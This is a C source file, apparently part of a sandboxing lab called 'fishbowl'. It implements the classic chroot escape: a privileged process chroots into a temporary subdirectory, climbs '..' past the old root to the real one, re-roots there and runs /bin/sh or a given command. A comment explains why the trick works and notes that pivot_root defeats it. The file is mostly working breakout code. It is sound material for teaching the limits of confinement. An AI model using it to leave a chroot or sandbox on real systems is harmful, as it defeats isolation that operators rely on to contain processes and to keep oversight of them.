/* SPDX-License-Identifier: GPL-3.0-or-later */
/*
 * escape [COMMAND [ARGUMENT...]]: leave a chroot, then run a command (/bin/sh) outside.
 *
 * chroot(2) changes where "/" leads, and that ".." stops there; it does not change the working
 * directory. So root makes a second, deeper root while it stands above it: from there ".." never
 * meets the root, and climbs up to the real one. It needs the right to call chroot
 * (CAP_SYS_CHROOT). Where the root was changed by pivot_root(2), nothing lies above: the same walk
 * ends where it began. In fishbowl it ends at the root of the lab.
 */
#include <errno.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

static int failed(const char *what)
{
    fprintf(stderr, "cannot %s: %s\n", what, strerror(errno));
    return 1;
}

int main(int argc, char **argv)
{
    static char *const shell[] = {"/bin/sh", NULL};
    char *const *command = argc > 1 ? argv + 1 : shell;
    struct stat first, here, above;
    if (chdir("/") < 0 || stat(".", &first) < 0 || mkdir("escape.tmp", 0700) < 0)
        return failed("make a directory in /");
    int deeper = chroot("escape.tmp"); /* our working directory is now above our root */
    int reason = errno;
    rmdir("escape.tmp");
    errno = reason;
    if (deeper < 0)
        return failed("call chroot");
    do { /* until a step up leads nowhere: that is the root of the mount namespace */
        if (stat(".", &here) < 0 || chdir("..") < 0 || stat(".", &above) < 0)
            return failed("go up");
    } while (here.st_ino != above.st_ino || here.st_dev != above.st_dev);
    if (chroot(".") < 0)
        return failed("make this place the root");
    if (here.st_ino == first.st_ino && here.st_dev == first.st_dev)
        printf("nothing lies above this root: still inside\n");
    else
        printf("out: / was inode %lu, now it is inode %lu\n", (unsigned long)first.st_ino,
               (unsigned long)here.st_ino);
    fflush(stdout);
    execvp(command[0], command);
    return failed("run that command there");
}
